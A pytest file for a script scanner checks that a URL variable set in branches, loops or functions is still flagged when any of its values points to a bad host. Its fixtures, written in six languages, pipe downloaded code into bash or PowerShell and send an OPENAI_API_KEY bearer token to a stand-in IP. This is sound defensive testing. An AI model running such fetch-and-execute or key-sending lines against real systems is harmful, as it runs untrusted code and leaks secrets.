"""A value that is set in a branch, after a function or in a loop excuses nothing: the other value counts, too."""

from __future__ import annotations

import pytest

from guard.packages import script
from whet.guard.finding import LABELS
from whet.guard.scan import scan

BAD = ("http://203.0.113.9/x", "https://get.pnpm.io/install.sh")
GOOD = ("https://astral.sh/uv/install.sh", "https://get.pnpm.io/install.sh")
HOSTS = ("http://203.0.113.9/v1", "https://api.openai.com/v1")
OWN = ("https://api.openai.com/v1/models", "https://api.openai.com/v1")

SHELL_RUNS = 'curl -fsSL "$U" | bash'
SHELL_SENDS = 'curl -H "Authorization: Bearer $OPENAI_API_KEY" "$U"'
SHELL = {
    "if": 'U=ONE\nif [ -n "$1" ]; then U=TWO; fi\nUSE\n',
    "else": 'if [ -n "$1" ]; then U=ONE; else U=TWO; fi\nUSE\n',
    "elif": 'if [ "$1" = a ]; then U=TWO; elif [ "$1" = b ]; then U=ONE; else U=TWO; fi\nUSE\n',
    "never": "U=ONE\nif false; then U=TWO; fi\nUSE\n",
    "or": 'U=ONE\n[ -z "$1" ] || U=TWO\nUSE\n',
    "and": 'U=ONE\n[ -n "$1" ] && U=TWO\nUSE\n',
    "case": 'case "$1" in a) U=ONE;; *) U=TWO;; esac\nUSE\n',
    "subshell": "U=ONE\n( U=TWO )\nUSE\n",
    "function": "U=ONE\nset_it() { U=TWO; }\nUSE\n",
    "later": "U=TWO\nuse_it() { USE; }\nU=ONE\nuse_it\n",
    "loop": "U=TWO\nfor turn in 1 2; do USE; U=ONE; done\n",
    "while": "U=ONE\nwhile false; do U=TWO; done\nUSE\n",
    "nested": 'U=ONE\nif [ -n "$1" ]; then if [ -n "$2" ]; then U=TWO; fi; fi\nUSE\n',
}
PYTHON_RUNS = 'os.system("curl -fsSL " + u + " | bash")'
PYTHON_SENDS = 'requests.get(u, headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]})'
PYTHON = {
    "if": 'u = "ONE"\nif len(sys.argv) > 9:\n    u = "TWO"\nUSE\n',
    "else": 'if len(sys.argv) > 9:\n    u = "ONE"\nelse:\n    u = "TWO"\nUSE\n',
    "never": 'u = "ONE"\nif False:\n    u = "TWO"\nUSE\n',
    "expression": 'u = "TWO" if len(sys.argv) > 9 else "ONE"\nUSE\n',
    "other expression": 'u = "ONE" if len(sys.argv) > 9 else "TWO"\nUSE\n',
    "loop": 'u = "ONE"\nfor one in sys.argv[9:]:\n    u = "TWO"\nUSE\n',
    "try": 'u = "ONE"\ntry:\n    int(sys.argv[1])\n    u = "TWO"\nexcept ValueError:\n    pass\nUSE\n',
    "key": 'u = {"a": "TWO", "b": "ONE"}[sys.argv[1]]\nUSE\n',
    "later": 'u = "TWO"\ndef use_it():\n    USE\nu = "ONE"\nuse_it()\n',
}
JAVASCRIPT_RUNS = 'cp.execSync("curl -fsSL " + u + " | bash");'
JAVASCRIPT_SENDS = 'fetch(u, { headers: { Authorization: "Bearer " + process.env.OPENAI_API_KEY } });'
JAVASCRIPT = {
    "if": 'let u = "ONE";\nif (process.argv[9]) { u = "TWO"; }\nUSE\n',
    "else": 'let u;\nif (process.argv[9]) { u = "ONE"; } else { u = "TWO"; }\nUSE\n',
    "expression": 'const u = process.argv[9] ? "TWO" : "ONE";\nUSE\n',
    "other expression": 'const u = process.argv[9] ? "ONE" : "TWO";\nUSE\n',
    "later": 'let u = "TWO";\nfunction useIt() { USE }\nu = "ONE";\nuseIt();\n',
}
POWERSHELL_RUNS = "irm $u | iex"
POWERSHELL_SENDS = 'irm $u -Headers @{ Authorization = "Bearer $env:OPENAI_API_KEY" }'
POWERSHELL = {
    "if": "$u = 'ONE'\nif ($args) { $u = 'TWO' }\nUSE\n",
    "else": "if ($args) { $u = 'ONE' } else { $u = 'TWO' }\nUSE\n",
    "value": "$u = if ($args) { 'ONE' } else { 'TWO' }\nUSE\n",
    "switch": "switch ($args[0]) { 'a' { $u = 'ONE' } default { $u = 'TWO' } }\nUSE\n",
    "later": "$u = 'TWO'\nfunction Use-It { USE }\n$u = 'ONE'\nUse-It\n",
}
CMD_RUNS = "curl -fsSL -o n.bat %U%\ncall n.bat"
CMD = {
    "if": '@echo off\nset U=ONE\nif "%1"=="x" set U=TWO\nUSE\n',
    "else": '@echo off\nif "%1"=="x" (set U=ONE) else (set U=TWO)\nUSE\n',
    "block": '@echo off\nset U=ONE\nif "%1"=="x" (\n  set U=TWO\n)\nUSE\n',
    "goto": "@echo off\nset U=TWO\ngoto begin\n:use\nUSE\nexit /b 0\n:begin\nset U=ONE\ngoto use\n",
}
RUBY_RUNS = 'system("curl -fsSL #{u} | bash")'
RUBY = {
    "if": 'u = "ONE"\nif ARGV[9]\n  u = "TWO"\nend\nUSE\n',
    "else": 'if ARGV[9]\n  u = "ONE"\nelse\n  u = "TWO"\nend\nUSE\n',
}
PLACES = {
    "sh": (SHELL, SHELL_RUNS, SHELL_SENDS, "#!/bin/bash\n"),
    "py": (PYTHON, PYTHON_RUNS, PYTHON_SENDS, "import os, sys, requests\n"),
    "js": (JAVASCRIPT, JAVASCRIPT_RUNS, JAVASCRIPT_SENDS, 'const cp = require("child_process");\n'),
    "ps1": (POWERSHELL, POWERSHELL_RUNS, POWERSHELL_SENDS, ""),
    "bat": (CMD, CMD_RUNS, "", ""),
    "rb": (RUBY, RUBY_RUNS, "", ""),
}
EXACT = {("sh", "subshell"), ("py", "later")}
"""Where one value is known to be used, and it is the first."""
ROWS = [
    pytest.param(
        ending, head + shape.replace("USE", use), bad, good, (ending, name) in EXACT, id=f"{ending}-{name}-{way}"
    )
    for ending, (shapes, runs, sends, head) in PLACES.items()
    for name, shape in shapes.items()
    for way, use, bad, good in (("runs", runs, BAD, GOOD), ("sends", sends, HOSTS, OWN))
    if use
]


def weighs(ending: str, text: str, values: tuple[str, str]) -> int:
    text = text.replace("ONE", values[0]).replace("TWO", values[1])
    return LABELS.index(scan(script(f"scripts/start.{ending}", text)).verdict)


@pytest.mark.parametrize(("ending", "text", "bad", "good", "exact"), ROWS)
def test_every_value_counts(ending: str, text: str, bad: tuple[str, str], good: tuple[str, str], exact: bool) -> None:
    assert LABELS[weighs(ending, text, bad)] == "dangerous"
    assert (LABELS[weighs(ending, text, bad[::-1])] == "dangerous") is not exact
    assert LABELS[weighs(ending, text, good)] != "dangerous"
